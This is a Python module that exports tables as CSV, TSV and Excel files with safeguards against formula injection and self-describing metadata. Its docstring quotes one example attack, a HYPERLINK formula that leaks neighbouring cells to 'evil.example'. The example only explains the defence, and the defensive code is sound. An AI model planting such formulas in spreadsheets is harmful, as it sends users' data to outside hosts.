"""Tables as files (CSV, TSV, Excel) that a spreadsheet opens as data, never as formulas.

Text people typed (ANS evidence, saved-cohort names, alert descriptions, display names,
cells of an imported matrix) reaches these files. A spreadsheet runs a CSV field that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula
(``=HYPERLINK("http://evil.example/?leak="&A2, ...)`` leaks the neighbouring cells), so:

* CSV/TSV: such a field, unless it is a number, gets a leading apostrophe (the usual
  defence; the spreadsheet shows the text as typed);
* Excel: every text value is written as a string cell, never a formula (nor an error
  code such as ``#N/A``); characters XML cannot hold are dropped instead of failing.

Every table file of the pages (``download_table``), the CLI (``emit_rows``) and the exports
is written here; ``tests/test_lint.py`` checks that no other module writes CSV or Excel (the
blank import template of ``data_access.alliance.tracking_matrix`` holds only fixed text). The
intake workbooks (``exports.intake_workbook``) lay out their sheets themselves and put every
value through :func:`xlsx_cell`, :func:`set_xlsx_value` and :func:`csv_line`.

Downloads people open (:func:`csv_download`, :func:`xlsx_download`) explain themselves: one
:class:`FileContext` (title, cut-off, scope, filters, definition with numerator and denominator,
generated at — Bogotá time — and by) becomes the ``metadatos`` sheet of the workbook and the
first lines of the CSV (see :func:`csv_download` for why there, and how to skip them).
"""

from __future__ import annotations

import datetime as dt
import io
import itertools
import numbers
import re
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass

import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font

from rules.core.formatting import fmt_date, fmt_datetime
from rules.core.i18n import t

# What a spreadsheet reads as the start of a formula (the full-width forms too: some
# spreadsheets normalise them to their ASCII counterparts).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# A number as text, possibly signed and formatted ("-5", "+57 300", "-1.234,5", "-12,5 %", "-$ 1.000",
# "+19,3 pp"): no other letters, operators, quotes nor parentheses, so nothing a spreadsheet could run.
_NUMBER = re.compile(r"[+-]?[$ \u00a0]*\d[\d.,\u00a0 ]*(?:%|\u00a0?pp| pp)?")


def inert_text(text: str) -> str:
    """``text`` safe as a CSV/TSV field: a leading apostrophe when a spreadsheet would read
    it as a formula; numbers (``-5``) and any other text are returned unchanged."""
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def inert(value):
    """A CSV/TSV value: text through :func:`inert_text`, anything else (numbers, dates, None) as is."""
    return inert_text(value) if isinstance(value, str) else value


def csv_field(value, sep: str = ",") -> str:
    """One CSV/TSV field: empty for a missing value, text :func:`inert`, quoted when it holds
    the separator, a quote or a line break (a bare carriage return too: a spreadsheet starts
    a new row there, and the text after it would be read as a new first cell)."""
    if value is None or value is pd.NaT or value is pd.NA or (isinstance(value, float) and value != value):
        return ""
    text = inert_text(value) if isinstance(value, str) else str(value)
    if sep in text or '"' in text or "\r" in text or "\n" in text:
        return '"' + text.replace('"', '""') + '"'
    return text


def _csv(header: Iterable, rows: Iterable[Iterable], sep: str) -> str:
    out = io.StringIO()
    for row in itertools.chain([header], rows):
        out.write(sep.join(csv_field(v, sep) for v in row))
        out.write("\n")
    return out.getvalue()


def csv_text(df: pd.DataFrame, sep: str = ",") -> str:
    """The frame as CSV (TSV with ``sep="\\t"``) text: header row, no index, every field inert."""
    return _csv(df.columns, df.itertuples(index=False, name=None), sep)


def csv_bytes(df: pd.DataFrame, sep: str = ",") -> bytes:
    """The frame as a CSV download: UTF-8 with BOM, so Excel reads the accents."""
    return csv_text(df, sep).encode("utf-8-sig")


def rows_csv_text(rows: Iterable[Mapping], columns: Sequence[str], sep: str = ",") -> str:
    """Rows (dicts; keys outside ``columns`` ignored) as CSV/TSV text with a header, every field inert."""
    return _csv(columns, ([row.get(c) for c in columns] for row in rows), sep)


def _xlsx_value(ws, value):
    """A value openpyxl writes as data: text as a string cell, never a formula or error code."""
    if value is None or value is pd.NaT:
        return None
    if isinstance(value, str):
        text = ILLEGAL_CHARACTERS_RE.sub("", value)
        if text.startswith("=") or text in ERROR_CODES:
            cell = WriteOnlyCell(ws, value=text)
            cell.data_type = "s"
            return cell
        return text
    if isinstance(value, numbers.Number) and not isinstance(value, complex):  # int, float, Decimal, numpy
        return None if value != value else value  # NaN: an empty cell
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, dt.datetime):
        return value.replace(tzinfo=None)  # Excel has no time zones
    if isinstance(value, dt.date | dt.time):
        return value
    try:
        if pd.isna(value):
            return None
    except (TypeError, ValueError):
        pass
    return _xlsx_value(ws, str(value))


def xlsx_bytes(df: pd.DataFrame, sheet: str = "datos") -> bytes:
    """The frame as an Excel workbook (one sheet, bold header row, no index): numbers and
    dates as such, every text value as a string cell."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=sheet[:31])
    bold = Font(bold=True)
    header = []
    for c in df.columns:
        cell = WriteOnlyCell(ws, value=ILLEGAL_CHARACTERS_RE.sub("", str(c)))
        cell.data_type = "s"
        cell.font = bold
        header.append(cell)
    ws.append(header)
    for row in df.itertuples(index=False, name=None):
        ws.append([_xlsx_value(ws, v) for v in row])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xlsx_cell(ws, value, number_format: str | None = None):
    """One value for ``ws.append`` of a write-only sheet, as data (text a string cell, never a
    formula or error code); with ``number_format`` (a date's ``DD/MM/YYYY``) a styled cell."""
    value = _xlsx_value(ws, value)
    if number_format is None or value is None:
        return value
    cell = value if isinstance(value, Cell) else WriteOnlyCell(ws, value=value)
    cell.number_format = number_format
    return cell


def set_xlsx_value(cell, value) -> None:
    """Put ``value`` into a cell of a loaded (not write-only) workbook as data: text as a string
    cell even when it starts with ``=`` or reads as an error code."""
    value = _xlsx_value(None, value)
    if isinstance(value, Cell):
        value = value.value
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def csv_line(values: Iterable, sep: str = ",") -> str:
    """One CSV/TSV line (with its line break), every field :func:`csv_field` (inert, quoted when needed)."""
    return sep.join(csv_field(v, sep) for v in values) + "\n"


# ------------------------------------------------------------------ downloads that explain themselves
@dataclass(frozen=True)
class FileContext:
    """What a downloaded table is, in the UI language: the rows of its ``metadatos``."""

    title: str
    cutoff: dt.date
    scope: str
    filters: str
    generated_at: dt.datetime
    generated_by: str
    definition: str = ""
    numerator: str = ""
    denominator: str = ""
    lang: str = "es"

    def rows(self) -> list[tuple[str, str]]:
        """(label, value) pairs, always the same labels in the same order (a reader may rely on it)."""
        lang = self.lang
        return [
            (t("download.meta.title", lang), self.title),
            (t("download.meta.cutoff", lang), fmt_date(self.cutoff, lang)),
            (t("download.meta.scope", lang), self.scope),
            (t("download.meta.filters", lang), self.filters),
            (t("download.meta.definition", lang), self.definition or "—"),
            (t("download.meta.numerator", lang), self.numerator or "—"),
            (t("download.meta.denominator", lang), self.denominator or "—"),
            (t("download.meta.generated_at", lang), fmt_datetime(self.generated_at, lang)),
            (t("download.meta.generated_by", lang), self.generated_by),
        ]


def slug(text: str) -> str:
    """A piece of a file name: no accents, spaces or signs (``Oficina Pacífico`` → ``Oficina_Pacifico``)."""
    ascii_text = unicodedata.normalize("NFKD", str(text)).encode("ascii", "ignore").decode()
    return re.sub(r"[^A-Za-z0-9-]+", "_", ascii_text).strip("_") or "x"


def scope_parts(viewer, filters, office_name: str | None = None) -> list[str]:
    """File-name pieces for a viewer's scope and the territory filtered: ``nacional`` or the office's
    (operator's) name, then the office, department or municipality filtered and the route."""
    parts = ["nacional" if viewer.is_national else (viewer.scope_name or viewer.username)]
    if filters.regional_office_id is not None:
        parts.append(office_name or str(filters.regional_office_id))
    if filters.municipality_code:
        parts.append(filters.municipality_code)
    elif filters.department_code:
        parts.append(filters.department_code)
    if filters.route:
        parts.append(filters.route)
    return parts


def file_stem(basename: str, scope: Sequence[str], cutoff: dt.date) -> str:
    """``<basename>_<scope…>_<cut-off>``: two scopes' (or two cut-offs') files never share a name."""
    return "_".join([slug(basename), *(slug(s) for s in scope if s), cutoff.isoformat()])


# A CSV as Excel reads it in each language: es-CO lists with ";" and writes decimals with ",".
CSV_DIALECT = {"es": (";", ","), "en": (",", ".")}
INT_FORMAT = "#,##0"
DECIMAL_FORMAT = "#,##0.0##"
DATE_FORMAT = "DD/MM/YYYY"
DATETIME_FORMAT = "DD/MM/YYYY HH:MM"


def _is_number(value) -> bool:
    return isinstance(value, numbers.Number) and not isinstance(value, bool | complex)


def _download_value(value, lang: str):
    """A value for a person's file: yes/no words for booleans, everything else as is."""
    if isinstance(value, bool):
        return t("download.yes" if value else "download.no", lang)
    return value


def _csv_number(value, decimal: str) -> str:
    if isinstance(value, numbers.Integral):
        return str(int(value))
    number = float(value)
    if number.is_integer() and abs(number) < 1e15:
        return str(int(number))
    text = repr(number)
    if "e" in text:
        text = f"{number:.15f}".rstrip("0").rstrip(".")
    return text.replace(".", decimal)


def _csv_download_value(value, lang: str, decimal: str):
    value = _download_value(value, lang)
    if value is None or value is pd.NaT or value is pd.NA:
        return None
    if _is_number(value):
        return None if value != value else _csv_number(value, decimal)
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, dt.datetime):
        return f"{fmt_date(value.date(), lang)} {value:%H:%M}"
    if isinstance(value, dt.date):
        return fmt_date(value, lang)
    return value


def csv_download(df: pd.DataFrame, context: FileContext) -> bytes:
    """The frame as the CSV a person opens in Excel: UTF-8 with BOM (the accents), the separator and
    decimal mark of the language's Excel (es: ``;`` and ``,``; en: ``,`` and ``.``), dates as the UI
    writes them, every text field inert.

    The context comes first, as ``label;value`` rows (Excel shows them in columns A and B), then
    one empty line, then the table. No ``#`` comment lines: Excel has no comments and would show
    them as data anyway; no ``sep=`` line: with it Excel ignores the BOM and breaks the accents.
    A program reads the table after the first empty line (``pandas.read_csv(f, sep=";",
    decimal=",", skiprows=len(context.rows()) + 1)``).
    """
    sep, decimal = CSV_DIALECT.get(context.lang, CSV_DIALECT["es"])
    lang = context.lang
    out = io.StringIO()
    for label, value in context.rows():
        out.write(csv_line([label, value], sep))
    out.write("\n")
    out.write(csv_line(df.columns, sep))
    for row in df.itertuples(index=False, name=None):
        out.write(csv_line([_csv_download_value(v, lang, decimal) for v in row], sep))
    return out.getvalue().encode("utf-8-sig")


# A figure the UI formatted (fmt_int, fmt_num, fmt_pct, fmt_money) inside a text column: "2.892",
# "78,4 %", "$ 26.144.800.000". Plain digits ("11001", "05") stay text: they are codes.
_FORMATTED = {
    "es": re.compile(r"(?P<money>\$ ?)?(?P<num>-?\d{1,3}(?:\.\d{3})+(?:,\d+)?|-?\d+,\d+|-?\d+(?= ?%))(?P<pct> ?%)?"),
    "en": re.compile(r"(?P<money>\$ ?)?(?P<num>-?\d{1,3}(?:,\d{3})+(?:\.\d+)?|-?\d+\.\d+|-?\d+(?= ?%))(?P<pct> ?%)?"),
}
MONEY_FORMAT = '"$" #,##0'
PERCENT_FORMAT = '#,##0.0" %"'


def parse_formatted(text: str, lang: str = "es") -> tuple[float | int, str] | None:
    """(number, Excel number format) of a figure the UI wrote as text in ``lang``; None for any other text."""
    m = _FORMATTED.get(lang, _FORMATTED["es"]).fullmatch(text.strip())
    if m is None or (m["money"] and m["pct"]):
        return None
    group, decimal = (".", ",") if lang == "es" else (",", ".")
    number = float(m["num"].replace(group, "").replace(decimal, "."))
    if m["pct"]:
        return number, PERCENT_FORMAT
    if m["money"]:
        return number, MONEY_FORMAT
    if number.is_integer() and decimal not in m["num"]:
        return int(number), INT_FORMAT
    return number, DECIMAL_FORMAT


def _typed_cell(ws, value, lang: str):
    """A cell with its number format: integers ``#,##0``, decimals ``#,##0.0##``, dates
    ``DD/MM/YYYY`` (Excel shows them with the reader's separators: 1.234,5 in es-CO); a figure
    the UI already formatted as text (``78,4 %``, ``$ 1.000``) becomes its number again."""
    value = _xlsx_value(ws, _download_value(value, lang))
    if isinstance(value, bool) or value is None or isinstance(value, Cell):
        return value
    if isinstance(value, str) and (parsed := parse_formatted(value, lang)) is not None:
        value, fmt = parsed
        cell = WriteOnlyCell(ws, value=value)
        cell.number_format = fmt
        return cell
    if _is_number(value):
        fmt = INT_FORMAT if isinstance(value, numbers.Integral) or float(value).is_integer() else DECIMAL_FORMAT
        if not isinstance(value, int | float):
            value = int(value) if isinstance(value, numbers.Integral) else float(value)
    elif isinstance(value, dt.datetime):
        fmt = DATETIME_FORMAT
    elif isinstance(value, dt.date):
        fmt = DATE_FORMAT
    else:
        return value
    cell = WriteOnlyCell(ws, value=value)
    cell.number_format = fmt
    return cell


def _header(ws, values) -> list:
    bold = Font(bold=True)
    cells = []
    for value in values:
        cell = WriteOnlyCell(ws, value=ILLEGAL_CHARACTERS_RE.sub("", str(value)))
        cell.data_type = "s"
        cell.font = bold
        cells.append(cell)
    return cells


def xlsx_download(df: pd.DataFrame, context: FileContext, sheet: str = "datos") -> bytes:
    """The frame as the workbook a person opens: sheet ``datos`` (bold header, numbers and dates
    typed, with number formats; text as string cells) and sheet ``metadatos`` (the context)."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=sheet[:31])
    ws.append(_header(ws, df.columns))
    for row in df.itertuples(index=False, name=None):
        ws.append([_typed_cell(ws, v, context.lang) for v in row])
    meta = wb.create_sheet(title="metadatos")
    meta.append(_header(meta, [t("download.meta.field", context.lang), t("download.meta.value", context.lang)]))
    for label, value in context.rows():
        meta.append([_xlsx_value(meta, label), _xlsx_value(meta, value)])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
